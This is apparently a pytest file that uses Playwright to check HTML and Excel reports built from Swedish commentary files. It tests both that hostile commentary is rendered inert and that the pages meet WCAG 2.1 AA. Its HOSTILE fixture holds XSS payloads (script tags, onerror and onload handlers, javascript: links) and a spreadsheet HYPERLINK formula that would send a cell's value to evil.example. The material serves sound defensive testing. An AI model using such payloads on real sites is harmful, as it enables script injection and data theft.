"""Commentary on the built pages in Chromium: a hostile commentary runs nothing, and every page
with commentary (draft, approved, flagged, with findings) meets WCAG 2.1 AA at 1280 and 320 px.

One build of 2019 (summary, costs, MT, staff) on a copy of the shipped exports with commentary
beside them, then the MT figure corrected and MT built again, so that its approved comment is
flagged. The pages are opened with their own Content-Security-Policy (the hostile test) and
with axe injected (the accessibility test, as ``test_accessibility.py`` does).
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from test_accessibility import WIDTHS, check, problems

from conftest import copy_shipped_raw

pytestmark = [pytest.mark.browser, pytest.mark.notebooks]

sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed (pip install playwright)")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")

HOSTILE = """---
status: granskad
ansvarig: <img src=x onerror="window.pwned = 'ansvarig'">
---
<script>window.pwned = 'script'</script> och <img src=x onerror="window.pwned = 'img'">

[klicka här](javascript:window.pwned='link') och [data](data:text/html,<script>alert(1)</script>)

=HYPERLINK("https://evil.example/?q="&A1, "Klicka")

## Resultat

"><svg onload="window.pwned = 'svg'"></svg> {{ result_msek }}
"""

MT = """---
status: godkänd
ansvarig: Eva Ek
godkänd: 2020-02-14
---
MT service och underhåll kostade {{ mt_outcome_msek }}.

## Finns inte

{{ mt_okänd_nyckel }} och 7,7 mnkr.
"""


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    from analysis.publishing.batch.build import run_batch

    root = tmp_path_factory.mktemp("commentary-pages")
    raw = copy_shipped_raw(root / "raw")
    notes = raw / "2019" / "kommentarer"
    notes.mkdir()
    (notes / "costs.md").write_text(HOSTILE, encoding="utf-8")
    (notes / "mt.md").write_text(MT, encoding="utf-8")
    examples = Path(__file__).resolve().parents[1] / "docs" / "examples" / "kommentarer" / "2019"
    for name in ("summary.md", "staff.md"):
        shutil.copy(examples / name, notes / name)
    folders = {"raw_dir": raw, "processed_dir": root / "processed", "reports_dir": root / "reports"}
    run_batch(years=[2019], chapters=["summary", "costs", "mt", "staff"], **folders)
    costs = raw / "2019" / "kostnader_per_kostnadslag.csv"
    text = costs.read_text(encoding="cp1252")  # as the finance system exports it
    line = next(ln for ln in text.splitlines() if ln.startswith("MT service och underhåll;"))
    cells = line.split(";")
    cells[1] = "20"  # a corrected MT outcome: the approved comment is overtaken
    costs.write_text(text.replace(line, ";".join(cells)), encoding="cp1252")
    run_batch(years=[2019], chapters=["summary", "mt"], **folders)
    return root / "reports" / "2019"


@pytest.fixture(scope="module")
def browser():
    if CHROMIUM is None:
        pytest.skip("no Chromium binary on PATH (Debian: apt-get install chromium)")
    with sync_api.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield chromium
        chromium.close()


def test_a_hostile_commentary_runs_nothing_and_shows_as_text(built, browser):
    context = browser.new_context()  # the page's own Content-Security-Policy applies
    context.route("**/*", lambda r: r.continue_() if r.request.url.startswith(("file:", "data:")) else r.abort())
    page = context.new_page()
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto((built / "cost_development.html").as_uri(), wait_until="load")
    box = page.locator("section.commentary").first
    assert "<script>window.pwned = 'script'</script>" in box.inner_text()
    assert '=HYPERLINK("https://evil.example/?q="&A1, "Klicka")' in box.inner_text()
    page.get_by_text("klicka här").click()  # text, not a link
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None and dialogs == []
    assert page.url.endswith("cost_development.html")
    found = page.evaluate(
        """() => ({
        scripts: document.querySelectorAll('main script').length,
        handlers: [...document.querySelectorAll('main *')]
            .filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
        jsLinks: document.querySelectorAll('a[href^="javascript"], a[href^="data"]').length,
        svg: document.querySelectorAll('section.commentary svg, section.commentary img').length,
    })"""
    )
    assert found == {"scripts": 0, "handlers": 0, "jsLinks": 0, "svg": 0}
    assert "Ansvarig: <img src=x" in page.locator(".commentary-status").first.inner_text()
    context.close()


def test_the_workbooks_hold_no_formula_from_a_commentary(built):
    from openpyxl import load_workbook

    for path in [*built.glob("*.xlsx"), built.parent / "nyckeltal.xlsx"]:
        for sheet in load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate}: {cell.value!r}"


def test_a_flagged_comment_and_findings_show_on_the_page(built, browser):
    page = browser.new_page()
    page.goto((built / "mt_maintenance_growth.html").as_uri())
    flag = page.locator(".commentary-flag").first.inner_text()
    assert "Kommentaren godkändes när" in flag and "var 19\u00a0mnkr" in flag and "ger nu 20\u00a0mnkr" in flag
    findings = page.locator(".commentary-findings").inner_text()
    assert "rad 10: okänt nyckeltal mt_okänd_nyckel" in findings and "Kommentaren anger 7,7 mnkr" in findings
    assert "rubriken ”Finns inte” finns inte i kapitlet" in findings
    assert page.locator(".figure-missing").inner_text() == "[saknat tal: mt_okänd_nyckel]"
    page.close()


@pytest.mark.parametrize("width", WIDTHS)
def test_pages_with_commentary_meet_wcag_21_aa(built, browser, width):
    context = browser.new_context(viewport={"width": width, "height": 900}, bypass_csp=True)
    context.route("**/*", lambda r: r.continue_() if r.request.url.startswith(("file:", "data:")) else r.abort())
    page = context.new_page()
    report = {}
    for name in ("summary", "cost_development", "mt_maintenance_growth", "staff", "index", "arsrapport"):
        facts = check(page, built / f"{name}.html")
        if found := problems(facts):
            report[name] = found
    context.close()
    assert report == {}
